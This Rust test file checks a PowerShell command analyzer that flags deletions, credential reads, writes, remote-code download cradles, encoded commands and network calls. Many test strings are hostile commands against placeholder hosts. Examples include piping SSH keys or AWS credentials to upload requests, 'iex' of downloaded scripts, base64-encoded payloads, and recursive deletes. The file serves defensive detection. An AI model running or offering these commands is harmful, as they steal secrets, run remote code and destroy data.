//! Table-driven tests of the PowerShell analysis.
//!
//! Each case lists what must hold. `cmds:a,b` is the exact list of command names;
//! `rdel:`, `del:`, `read:`, `write:`, `chmod:`, `exec:` name an effect that must be present
//! (`!rdel:p` one that must not); `noeffects`, `nodelete`; `url:`, `nourls`; `dyn:`, `nodyn`;
//! `args:name=a|b` the arguments of the first command `name`. The flags `remote`, `decoded`,
//! `parse_error` and `limit` must be listed exactly when they are set.

use super::*;

struct Case {
    cmd: &'static str,
    expect: &'static [&'static str],
}

const fn case(cmd: &'static str, expect: &'static [&'static str]) -> Case {
    Case { cmd, expect }
}

const CASES: &[Case] = &[
    // Deletion, case-insensitive names, parameter prefixes, aliases.
    case(r"rEmOvE-iTeM -ReCuRsE -Force C:\Users\dev\Documents", &["cmds:remove-item", r"rdel:C:\Users\dev\Documents"]),
    case(r"rm -r -fo ~\Documents", &["cmds:remove-item", r"rdel:~\Documents"]),
    case(r"ri $env:USERPROFILE\.ssh -Recurse", &["cmds:remove-item", r"rdel:$env:USERPROFILE\.ssh"]),
    case(r"del C:\x\file.txt", &["cmds:remove-item", r"del:C:\x\file.txt", r"!rdel:C:\x\file.txt"]),
    case(r"Remove-Item -Path C:\x -Rec", &[r"rdel:C:\x"]),
    case(r"Remove-Item -LiteralPath 'C:\a b' -Recurse", &[r"rdel:C:\a b"]),
    case(r"Remove-Item -lit C:\y -r", &[r"rdel:C:\y"]),
    case(r"Remove-Item -LP C:\z", &[r"del:C:\z"]),
    case(r"Remove-Item -Path:C:\colon -Recurse", &[r"rdel:C:\colon"]),
    case(r"Remove-Item -Path:'C:\q' -Recurse:$true", &[r"rdel:C:\q"]),
    case(r"Remove-Item C:\nr -Recurse:$false", &[r"del:C:\nr", r"!rdel:C:\nr"]),
    case("rm a,b -Recurse", &["rdel:a", "rdel:b"]),
    case("rm 'a', \"b\" -Force", &["del:a", "del:b"]),
    case(r"rd C:\tmp\build -Recurse", &[r"rdel:C:\tmp\build"]),
    case(r"rmdir ..\out -r", &[r"rdel:..\out"]),
    case(r"erase *.log", &["del:*.log"]),
    case(r"Microsoft.PowerShell.Management\Remove-Item -Recurse C:\m", &["cmds:remove-item", r"rdel:C:\m"]),
    case(r"Remove-Item -Recurse -Force $HOME/x", &["rdel:$HOME/x"]),
    case(r"Remove-Item -Force -Recurse -ErrorAction SilentlyContinue C:\ea", &[r"rdel:C:\ea"]),
    case(r"Remove-Item -ea 0 C:\ea2", &[r"del:C:\ea2"]),
    case(r"Remove-Item -Verbose -WhatIf C:\w", &[r"del:C:\w"]),
    case(r"Remove-Item -Filter *.tmp C:\f -Recurse", &[r"rdel:C:\f", "!rdel:*.tmp"]),
    case(r"Get-ChildItem C:\logs -Recurse | Remove-Item -Force", &["cmds:get-childitem,remove-item", r"del:C:\logs"]),
    case(r"gci C:\logs | rm -Recurse", &[r"rdel:C:\logs"]),
    case(r"[IO.File]::Delete('C:\f.txt')", &["cmds:", r"del:C:\f.txt"]),
    case(r"[System.IO.Directory]::Delete('C:\d', $true)", &[r"rdel:C:\d"]),
    case(r"[IO.Directory]::Delete('C:\d2')", &[r"del:C:\d2"]),
    case(r"Move-Item a.txt C:\b.txt", &["cmds:move-item", "read:a.txt", "del:a.txt", r"write:C:\b.txt"]),
    case(r"mv -Destination d -Path s", &["read:s", "del:s", "write:d"]),
    case(r"Copy-Item ~\.ssh\id_rsa C:\public\k", &["cmds:copy-item", r"read:~\.ssh\id_rsa", r"write:C:\public\k", "nodelete"]),
    case(r"cp -Recurse src dst", &["read:src", "write:dst", "nodelete"]),
    case(r"Copy-Item -Destination out in.txt", &["read:in.txt", "write:out"]),
    case("Rename-Item old.txt new.txt", &["cmds:rename-item", "del:old.txt", "write:new.txt"]),
    case(r"ren C:\a.cfg a.bak", &[r"del:C:\a.cfg", "write:a.bak"]),
    // Reads.
    case("Get-Content ~/.aws/credentials", &["cmds:get-content", "read:~/.aws/credentials"]),
    case(r"gc $HOME\.ssh\id_rsa", &[r"read:$HOME\.ssh\id_rsa"]),
    case(r"cat C:\secrets.txt", &["cmds:get-content", r"read:C:\secrets.txt"]),
    case(r"type .\notes.md", &[r"read:.\notes.md"]),
    case(r"Get-Content -Path 'C:\Program Files\app\cfg.json' -Raw", &[r"read:C:\Program Files\app\cfg.json"]),
    case(r"Get-Content -Tail 10 C:\log.txt", &[r"read:C:\log.txt", "!read:10"]),
    case(r"Import-Csv users.csv", &["read:users.csv"]),
    case(r"Select-String -Pattern 'iex' -Path *.ps1", &["cmds:select-string", "read:*.ps1", "nodyn", "!read:iex"]),
    case(r"sls password C:\conf\*.xml", &[r"read:C:\conf\*.xml", "!read:password"]),
    case(r"Get-FileHash C:\bin\tool.exe -Algorithm SHA256", &[r"read:C:\bin\tool.exe", "!read:SHA256"]),
    case(r"Format-Hex C:\k.bin", &[r"read:C:\k.bin"]),
    case(r"[IO.File]::ReadAllText('C:\Users\dev\.git-credentials')", &[r"read:C:\Users\dev\.git-credentials"]),
    case(r"$t = [System.IO.File]::ReadAllBytes('a.bin')", &["read:a.bin"]),
    case("Get-ChildItem -Recurse src", &["cmds:get-childitem", "noeffects"]),
    case(r"ls C:\Users", &["cmds:get-childitem", "noeffects"]),
    // Writes.
    case("echo hi > out.txt", &["cmds:write-output", "write:out.txt"]),
    case("Write-Output x >> log.txt", &["write:log.txt"]),
    case("git status 2> err.txt", &["cmds:git", "write:err.txt"]),
    case("git status *> all.txt", &["write:all.txt"]),
    case("git status 2>&1 > o.txt", &["write:o.txt"]),
    case("git status > $null", &["noeffects"]),
    case("git status >o2.txt", &["write:o2.txt"]),
    case(r"'x' | Out-File C:\o.txt", &["cmds:out-file", r"write:C:\o.txt"]),
    case(r"Out-File -FilePath C:\o3.txt -InputObject 'x'", &[r"write:C:\o3.txt"]),
    case(r"Set-Content -Path $PROFILE -Value 'iex x'", &["write:$PROFILE", "nodyn"]),
    case(r"sc C:\h.txt 'data'", &["cmds:set-content", r"write:C:\h.txt", "!write:data"]),
    case(r"Add-Content C:\Windows\System32\drivers\etc\hosts '1.2.3.4 x'", &[r"write:C:\Windows\System32\drivers\etc\hosts"]),
    case(r"ac log.txt line", &["cmds:add-content", "write:log.txt"]),
    case(r"Clear-Content C:\audit.log", &[r"write:C:\audit.log"]),
    case(r"Get-Process | Tee-Object -FilePath C:\p.txt", &["cmds:get-process,tee-object", r"write:C:\p.txt"]),
    case(r"New-Item -ItemType File -Path C:\n.txt -Force", &["cmds:new-item", r"write:C:\n.txt"]),
    case(r"ni x.ps1", &["write:x.ps1"]),
    case(r"mkdir C:\newdir", &[r"write:C:\newdir"]),
    case(r"Set-ItemProperty -Path HKCU:\Software\Run -Name x -Value y", &[r"write:HKCU:\Software\Run", "!write:x"]),
    case(r"[IO.File]::WriteAllText('C:\w.txt', 'x')", &[r"write:C:\w.txt", "!write:x"]),
    case(r"[IO.File]::Copy('a', 'b')", &["read:a", "write:b"]),
    case(r"Export-Csv -Path out.csv", &["write:out.csv"]),
    case(r"Expand-Archive a.zip -DestinationPath C:\dest", &["read:a.zip", r"write:C:\dest"]),
    // Permissions and execution.
    case(r"Set-Acl C:\secret $acl", &["cmds:set-acl", r"chmod:C:\secret", "!chmod:$acl"]),
    case(r"icacls C:\data /grant Everyone:F", &["cmds:icacls", r"chmod:C:\data"]),
    case(r"attrib +h +s C:\hidden.txt", &["cmds:attrib", r"chmod:C:\hidden.txt", "!chmod:+h"]),
    case(r"takeown /f C:\Windows\x.dll", &[r"chmod:C:\Windows\x.dll"]),
    case(r"Unblock-File .\dl.ps1", &[r"chmod:.\dl.ps1"]),
    case(r"& .\build.ps1 -Release", &["cmds:build.ps1", r"exec:.\build.ps1"]),
    case(r". .\profile.ps1", &[r"exec:.\profile.ps1"]),
    case(r".\setup.ps1", &[r"exec:.\setup.ps1"]),
    case(r"& 'C:\Program Files\Git\bin\git.exe' status", &["cmds:git", r"exec:C:\Program Files\Git\bin\git.exe", "nodyn"]),
    case(r"Start-Process -FilePath C:\tmp\evil.exe", &["cmds:start-process,evil", r"exec:C:\tmp\evil.exe"]),
    case(r"saps notepad", &["cmds:start-process,notepad", "exec:notepad"]),
    case(r"start cmd -ArgumentList '/c rd /s /q C:\x'", &["cmds:start-process,cmd,rd", r"rdel:C:\x"]),
    case(r"Invoke-Command -FilePath .\remote.ps1 -ComputerName srv01", &[r"exec:.\remote.ps1", "url:tcp://srv01"]),
    case(r"Invoke-Item C:\doc.lnk", &[r"exec:C:\doc.lnk"]),
    case(r"[Diagnostics.Process]::Start('calc.exe')", &["cmds:calc", "exec:calc.exe"]),
    // cmd.exe lines.
    case(r#"cmd /c "del /s /q C:\build""#, &["cmds:cmd,del", r"rdel:C:\build"]),
    case(r#"cmd.exe /c "rd /s /q C:\old & type C:\pw.txt""#, &["cmds:cmd,rd,type", r"rdel:C:\old", r"read:C:\pw.txt"]),
    case(r#"cmd /c "del C:\one.txt""#, &[r"del:C:\one.txt", r"!rdel:C:\one.txt"]),
    case(r#"cmd /c "echo x > C:\c.txt""#, &["cmds:cmd,echo", r"write:C:\c.txt"]),
    case(r#"cmd /c "copy a.txt b.txt""#, &["read:a.txt", "write:b.txt"]),
    case(r#"cmd /c "powershell -c Remove-Item -Recurse C:\deep""#, &["cmds:cmd,powershell,remove-item", r"rdel:C:\deep"]),
    // Network.
    case("Invoke-WebRequest -Uri https://x.test/a -OutFile a.zip", &["cmds:invoke-webrequest", "url:https://x.test/a", "write:a.zip"]),
    case("iwr https://x.test/b", &["url:https://x.test/b"]),
    case("curl https://ps5.test/c", &["cmds:invoke-webrequest", "url:https://ps5.test/c"]),
    case("wget https://w.test/d -OutFile d", &["cmds:invoke-webrequest", "write:d"]),
    case("curl.exe -o out.bin https://native.test/e", &["cmds:curl", "url:https://native.test/e", "write:out.bin"]),
    case("irm https://api.test/v1 -Method Post -InFile C:\\data.json", &["cmds:invoke-restmethod", r"read:C:\data.json", "url:https://api.test/v1"]),
    case(
        r"gc $HOME\.ssh\id_rsa | iwr -Uri https://x.test -Method Post",
        &["cmds:get-content,invoke-webrequest", r"read:$HOME\.ssh\id_rsa", "url:https://x.test"],
    ),
    case(r"iwr https://x.test -Method Post -Body (Get-Content ~\.aws\credentials)", &[r"read:~\.aws\credentials", "url:https://x.test"]),
    case(r"(New-Object Net.WebClient).DownloadFile('http://e.test/m.exe', 'C:\m.exe')", &["cmds:new-object", "url:http://e.test/m.exe", r"write:C:\m.exe"]),
    case(r"(New-Object System.Net.WebClient).UploadFile('http://e.test/u', 'C:\loot.zip')", &["url:http://e.test/u", r"read:C:\loot.zip"]),
    case(r"$wc = New-Object Net.WebClient; $wc.UploadString('http://e.test/s', 'x')", &["url:http://e.test/s"]),
    case("Start-BitsTransfer -Source https://bits.test/f -Destination C:\\f", &["url:https://bits.test/f", r"write:C:\f"]),
    case("Test-NetConnection -ComputerName c2.test -Port 443", &["url:tcp://c2.test:443"]),
    case("tnc c2.test", &["cmds:tnc", "noeffects"]),
    case("$c = New-Object Net.Sockets.TCPClient('10.0.0.5',4444)", &["url:tcp://10.0.0.5:4444"]),
    case(r#"New-Object System.Net.Sockets.TcpClient -ArgumentList "h.test",8080"#, &["url:tcp://h.test:8080"]),
    case("[Net.Sockets.TcpClient]::new('h2.test', 9001)", &["url:tcp://h2.test:9001"]),
    case("git clone https://github.test/o/r.git", &["cmds:git", "url:https://github.test/o/r.git", "noeffects"]),
    // Remote code.
    case("iex (iwr https://e.test/a.ps1)", &["cmds:invoke-webrequest,invoke-expression", "remote", "url:https://e.test/a.ps1"]),
    case("IEX(New-Object Net.WebClient).DownloadString('http://e.test/x')", &["remote", "url:http://e.test/x", "cmds:new-object,invoke-expression"]),
    case("irm https://e.test/i.ps1 | iex", &["remote", "cmds:invoke-restmethod,invoke-expression"]),
    case("Invoke-Expression $(Invoke-RestMethod https://e.test/r)", &["remote"]),
    case("iwr https://e.test/y -UseBasicParsing | Invoke-Expression", &["remote"]),
    case("$s = irm https://e.test/v; iex $s", &["remote", "nodyn"]),
    case("$w = New-Object Net.WebClient; iex $w.DownloadString('http://e.test/z')", &["remote", "url:http://e.test/z"]),
    case("&([scriptblock]::Create((iwr https://e.test/sb).Content))", &["url:https://e.test/sb"]),
    case("curl.exe -s https://e.test/p | powershell -", &["remote", "cmds:curl,powershell"]),
    case("iwr https://e.test/q -OutFile q.ps1; .\\q.ps1", &["write:q.ps1", r"exec:.\q.ps1"]),
    // Dynamic names.
    case(r#"& ("Remove"+"-Item") -Recurse x"#, &["cmds:remove-item", "rdel:x", r#"dyn:("Remove"+"-Item")"#]),
    case(r#"& ('Rem'+'ove-'+'Item') C:\q2 -r"#, &["cmds:remove-item", r"rdel:C:\q2"]),
    case(r"$c='Remove-Item'; & $c x", &["cmds:remove-item", "del:x", "dyn:$c"]),
    case(r"$c = 'Remove-Item'; $c = 'Get-Date'; & $c x", &["cmds:", "dyn:$c", "noeffects"]),
    case(r"& $cmd C:\x", &["cmds:", "dyn:$cmd", "noeffects"]),
    case(r". $x", &["dyn:$x"]),
    case(r"iex $var", &["dyn:$var"]),
    case(r"$a='Remove-Item C:\v -Recurse'; iex $a", &["dyn:$a", r"rdel:C:\v", "cmds:invoke-expression,remove-item"]),
    case(r"iex 'Remove-Item -Recurse C:\lit'", &["nodyn", r"rdel:C:\lit"]),
    case(r"& (('Remove','Item') -join '-') -r C:\j", &[r"rdel:C:\j"]),
    case(r"Get-Clipboard | iex", &["dyn:<pipeline>"]),
    case(r"& { Remove-Item -Recurse C:\sb }", &["cmds:remove-item", r"rdel:C:\sb", "nodyn"]),
    // Decoded.
    case(
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgQzpcYjY0')))",
        &["decoded", r"rdel:C:\b64", "cmds:invoke-expression,remove-item"],
    ),
    case("$d = [Convert]::FromBase64String('aXdyIGh0dHBzOi8vZC50ZXN0'); iex ([Text.Encoding]::UTF8.GetString($d))", &["decoded", "url:https://d.test"]),
    // Syntax: statements, pipelines, strings, comments, continuation, keywords.
    case(r"git pull; Remove-Item -Recurse C:\a1", &["cmds:git,remove-item", r"rdel:C:\a1"]),
    case("git pull\nrm C:\\nl", &["cmds:git,remove-item", r"del:C:\nl"]),
    case(r"git fetch && rm -r C:\and || echo no", &["cmds:git,remove-item,write-output", r"rdel:C:\and"]),
    case(r"Get-ChildItem | ForEach-Object { Remove-Item $_.FullName -Recurse }", &["cmds:get-childitem,remove-item,foreach-object"]),
    case(r"ls | % { rm $_ }", &["cmds:get-childitem,remove-item,foreach-object"]),
    case(r"if (Test-Path C:\t) { Remove-Item C:\t -Recurse } else { echo no }", &["cmds:test-path,remove-item,write-output", r"rdel:C:\t"]),
    case(r"foreach ($f in (ls C:\d)) { del $f }", &["cmds:get-childitem,remove-item"]),
    case(r"try { rm C:\try -r } catch { Write-Error $_ }", &[r"rdel:C:\try"]),
    case(r"function Clean { Remove-Item -Recurse C:\fn }", &[r"rdel:C:\fn"]),
    case("Remove-Item `\n  -Recurse `\n  C:\\cont", &[r"rdel:C:\cont"]),
    case("git status # rm -r C:\\comment", &["cmds:git", "noeffects"]),
    case("<# rm -r C:\\block #> git status", &["cmds:git", "noeffects"]),
    case(r#"Write-Output "Remove-Item -Recurse C:\""#, &["cmds:write-output", "noeffects", "nourls"]),
    case(r#"git commit -m "rm -rf /""#, &["cmds:git", "noeffects"]),
    case(r"'Remove-Item -Recurse C:\x'", &["cmds:", "noeffects"]),
    case(r#"Write-Host "it`"s `$(rm x)""#, &["cmds:write-host", "noeffects"]),
    case(r#"Write-Output "now: $(Remove-Item -Recurse C:\sub)""#, &["cmds:remove-item,write-output", r"rdel:C:\sub"]),
    case("Write-Output 'it''s fine'", &["args:write-output=it's fine"]),
    case("git commit -m \"a`tb\"", &["args:git=commit|-m|a\tb"]),
    case("$x = @'\nRemove-Item -Recurse C:\\here\n'@\nWrite-Output $x", &["cmds:write-output", "noeffects"]),
    case("$y = @\"\n$(rm -r C:\\heresub)\n\"@", &[r"rdel:C:\heresub"]),
    case(r"Re`move-It`em C:\tick -Recurse", &["cmds:remove-item", r"rdel:C:\tick"]),
    case(r"& 'rm' C:\quoted", &["cmds:remove-item", r"del:C:\quoted"]),
    case("\u{201C}x\u{201D} | Out-File C:\\smart.txt", &[r"write:C:\smart.txt"]),
    case(r#"Copy-Item C:\a\*.txt -Destination "C:\Program Files\x""#, &[r"read:C:\a\*.txt", r"write:C:\Program Files\x"]),
    case(r"$p = 'C:\var\dir'; Remove-Item $p -Recurse", &[r"rdel:C:\var\dir"]),
    case(r"@(1,2) | % { $_ }", &["cmds:foreach-object", "noeffects"]),
    case(r"Remove-Item @params", &["cmds:remove-item", "noeffects"]),
    case(r"Remove-Item @params C:\sp -Recurse", &[r"rdel:C:\sp"]),
    case(r"$null = Remove-Item C:\assign", &[r"del:C:\assign"]),
    case("git log --% --format=\"%h %s\" -n 1", &["args:git=log|--%|--format=%h %s|-n|1"]),
    case("docker run -v C:\\x:/x img", &["cmds:docker", "noeffects"]),
    case("npm install; npm test", &["cmds:npm,npm"]),
    case("dotnet build -c Release", &["cmds:dotnet", "noeffects"]),
    case("Get-Date -Format 'yyyy'", &["cmds:get-date", "noeffects"]),
    case("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -Command \"rm -r C:\\pc\"", &["cmds:powershell,remove-item", r"rdel:C:\pc"]),
    case("pwsh -nop -ep bypass -File .\\x.ps1", &[r"exec:.\x.ps1"]),
    case("pwsh -c \"iwr https://e.test/n | iex\"", &["remote"]),
    case("Write-Output \"unterminated", &["parse_error", "cmds:write-output"]),
    case("(Remove-Item C:\\open -Recurse", &["parse_error", r"rdel:C:\open"]),
    case("Write-Output 'open", &["parse_error"]),
    case("git status )", &["parse_error", "cmds:git"]),
    case(r"& $env:ComSpec /c del /s /q C:\cs", &["cmds:cmd,del", "dyn:$env:ComSpec", r"rdel:C:\cs"]),
    case(r"Remove-Item -Path C:\p1,C:\p2 -Recurse", &[r"rdel:C:\p1", r"rdel:C:\p2"]),
    case(r"Get-Content C:\a | Set-Content C:\b", &[r"read:C:\a", r"write:C:\b"]),
    case("sv c 'x'; gv c", &["cmds:set-variable,get-variable"]),
    case("git status `", &["cmds:git", "noeffects"]),
];

fn check(case: &Case) {
    let a = analyze(case.cmd);
    let cmd = case.cmd;
    let has = |access: PsAccess, path: &str| {
        a.effects
            .iter()
            .any(|e| e.access == access && e.path == path)
    };
    let access = |tag: &str| match tag {
        "rdel" => Some(PsAccess::RecursiveDelete),
        "del" => Some(PsAccess::Delete),
        "read" => Some(PsAccess::Read),
        "write" => Some(PsAccess::Write),
        "chmod" => Some(PsAccess::Chmod),
        "exec" => Some(PsAccess::Exec),
        _ => None,
    };
    for want in case.expect {
        let (negated, want) = match want.strip_prefix('!') {
            Some(w) => (true, w),
            None => (false, *want),
        };
        let (tag, value) = want.split_once(':').unwrap_or((want, ""));
        if let Some(acc) = access(tag) {
            assert_eq!(
                has(acc, value),
                !negated,
                "{cmd}: effect {want} (negated: {negated}); got {:?}",
                a.effects
            );
            continue;
        }
        match tag {
            "cmds" => {
                let names: Vec<&str> = a.commands.iter().map(|c| c.name.as_str()).collect();
                let expected: Vec<&str> = value.split(',').filter(|s| !s.is_empty()).collect();
                assert_eq!(names, expected, "{cmd}: commands");
            }
            "noeffects" => assert!(a.effects.is_empty(), "{cmd}: effects {:?}", a.effects),
            "nodelete" => assert!(
                !a.effects
                    .iter()
                    .any(|e| matches!(e.access, PsAccess::Delete | PsAccess::RecursiveDelete)),
                "{cmd}: effects {:?}",
                a.effects
            ),
            "url" => assert!(
                a.urls.iter().any(|u| u == value),
                "{cmd}: url {value}; got {:?}",
                a.urls
            ),
            "nourls" => assert!(a.urls.is_empty(), "{cmd}: urls {:?}", a.urls),
            "dyn" => assert!(
                a.dynamic_programs.iter().any(|d| d == value),
                "{cmd}: dynamic {value}; got {:?}",
                a.dynamic_programs
            ),
            "nodyn" => assert!(
                a.dynamic_programs.is_empty(),
                "{cmd}: dynamic {:?}",
                a.dynamic_programs
            ),
            "args" => {
                let (name, args) = value.split_once('=').unwrap_or((value, ""));
                let found = a
                    .commands
                    .iter()
                    .find(|c| c.name == name)
                    .unwrap_or_else(|| panic!("{cmd}: no command {name}"));
                let expected: Vec<&str> = args.split('|').collect();
                assert_eq!(found.args, expected, "{cmd}: args of {name}");
            }
            "remote" | "decoded" | "parse_error" | "limit" => {}
            other => panic!("unknown expectation {other}"),
        }
    }
    let flag = |name: &str| case.expect.contains(&name);
    assert_eq!(a.exec_remote, flag("remote"), "{cmd}: exec_remote ({a:?})");
    assert_eq!(
        a.exec_decoded,
        flag("decoded"),
        "{cmd}: exec_decoded ({a:?})"
    );
    assert_eq!(
        a.parse_error,
        flag("parse_error"),
        "{cmd}: parse_error ({a:?})"
    );
    assert_eq!(a.limit_hit, flag("limit"), "{cmd}: limit_hit ({a:?})");
}

#[test]
fn table() {
    assert!(CASES.len() >= 100, "{} cases", CASES.len());
    let failed: Vec<&str> = CASES
        .iter()
        .filter(|case| std::panic::catch_unwind(|| check(case)).is_err())
        .map(|case| case.cmd)
        .collect();
    assert!(
        failed.is_empty(),
        "{} failing cases: {failed:#?}",
        failed.len()
    );
}

/// Base64 of the UTF-16LE text, as `powershell -EncodedCommand` expects.
fn encode_command(script: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn encoded_command_is_decoded_and_analyzed() {
    let payload = encode_command(r"Remove-Item -Recurse C:\x");
    for flag in [
        "-enc",
        "-e",
        "-ec",
        "-EncodedCommand",
        "-eNcOdEdCoMmAnD",
        "/enc",
    ] {
        for shell in [
            "powershell",
            "pwsh",
            "powershell.exe",
            "PowerShell -NoP -W Hidden",
        ] {
            let a = analyze(&format!("{shell} {flag} {payload}"));
            assert!(a.exec_decoded, "{shell} {flag}");
            assert!(
                a.effects.contains(&PsEffect {
                    access: PsAccess::RecursiveDelete,
                    path: r"C:\x".into()
                }),
                "{shell} {flag}: {a:?}"
            );
            assert_eq!(
                a.commands.last().map(|c| c.name.as_str()),
                Some("remove-item")
            );
        }
    }
}

#[test]
fn nested_encoded_commands_stop_at_the_depth_limit() {
    let mut script = r"Remove-Item -Recurse C:\deepest".to_owned();
    for _ in 0..3 {
        script = format!("powershell -enc {}", encode_command(&script));
    }
    let a = analyze(&script);
    assert!(a.exec_decoded && !a.limit_hit);
    assert!(a.effects.iter().any(|e| e.path == r"C:\deepest"));
    for _ in 0..10 {
        script = format!("powershell -enc {}", encode_command(&script));
    }
    let a = analyze(&script);
    assert!(a.exec_decoded && a.limit_hit);
}

#[test]
fn encoded_download_cradle_is_remote_and_decoded() {
    let payload =
        encode_command("IEX (New-Object Net.WebClient).DownloadString('http://c2.test/s')");
    let a = analyze(&format!("powershell -w hidden -nop -enc {payload}"));
    assert!(a.exec_decoded && a.exec_remote);
    assert_eq!(a.urls, ["http://c2.test/s"]);
}

#[test]
fn base64_literal_in_unicode_is_decoded() {
    let b64 = encode_command(r"rm -r C:\uni");
    let a = analyze(&format!("iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('{b64}')))"));
    assert!(a.exec_decoded);
    assert!(a.effects.contains(&PsEffect {
        access: PsAccess::RecursiveDelete,
        path: r"C:\uni".into()
    }));
}

#[test]
fn hostile_input_is_bounded() {
    let big = 64 * 1024;
    for unit in [
        "(", "$(", "{", "@(", "\"", "'", "\"$(", "<#", "`", "@'\n", "&(", "[", "iex ", "| ", "a,",
        "-",
    ] {
        let text = unit.repeat(big / unit.len() + 1);
        let a = analyze(&text);
        assert!(a.commands.len() <= 2 * MAX_ITEMS, "{unit:?}");
        assert!(
            a.effects.len() <= MAX_ITEMS
                && a.urls.len() <= MAX_ITEMS
                && a.dynamic_programs.len() <= MAX_ITEMS
        );
        assert!(a.limit_hit, "{unit:?}: input over the cap sets limit_hit");
    }
    let deep = format!("{}rm C:\\in{}", "(".repeat(20), ")".repeat(20));
    let a = analyze(&deep);
    assert!(a.limit_hit && !a.parse_error);
    let shallow = format!("{}rm C:\\in{}", "(".repeat(5), ")".repeat(5));
    let a = analyze(&shallow);
    assert!(!a.limit_hit);
    assert!(a.effects.iter().any(|e| e.path == r"C:\in"));
}

#[test]
fn many_effects_are_capped() {
    let cmd: String = (0..600).map(|i| format!("rm f{i}; ")).collect();
    let a = analyze(&cmd);
    assert_eq!(a.effects.len(), MAX_ITEMS);
    assert!(a.limit_hit);
}

#[test]
fn repeated_iex_of_a_variable_is_budgeted() {
    let body = "x".repeat(1000);
    let mut cmd = format!("$c = 'echo {body}'; ");
    for _ in 0..2000 {
        cmd.push_str("iex $c;");
    }
    let a = analyze(&cmd);
    assert!(a.limit_hit);
}

#[test]
fn public_entry_point() {
    let a = crate::analyze_powershell("rm -r -fo ~\\Documents");
    assert_eq!(
        a.commands,
        [PsCommand {
            name: "remove-item".into(),
            args: vec!["-r".into(), "-fo".into(), r"~\Documents".into()]
        }]
    );
    assert_eq!(
        a.effects,
        [PsEffect {
            access: PsAccess::RecursiveDelete,
            path: r"~\Documents".into()
        }]
    );
}

#[test]
fn random_input_never_panics() {
    const ALPHABET: &[&str] = &[
        "(",
        ")",
        "$(",
        "@(",
        "{",
        "}",
        "@{",
        "[",
        "]",
        "'",
        "\"",
        "`",
        "\n",
        "@'\n",
        "\n'@",
        "@\"\n",
        "\n\"@",
        "#",
        "<#",
        "#>",
        ";",
        "|",
        "&",
        ",",
        "+",
        "=",
        ">",
        "2>",
        "*>&1",
        " ",
        "-",
        "-r",
        "-Path:",
        ":",
        "::",
        ".",
        "$x",
        "$env:A",
        "rm",
        "iex",
        "iwr",
        "cmd",
        "/c",
        "powershell",
        "-enc",
        "AAAA",
        "[IO.File]",
        "::Delete",
        ".DownloadString",
        "New-Object",
        "--%",
        "é",
        "\u{201C}",
        "\u{2018}",
        "x",
        "C:\\y",
        "%",
        "-join",
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..5000 {
        let len = (next() % 60) as usize;
        let text: String = (0..len)
            .map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize])
            .collect();
        let a = analyze(&text);
        assert!(a.effects.len() <= MAX_ITEMS, "{text:?}");
    }
}
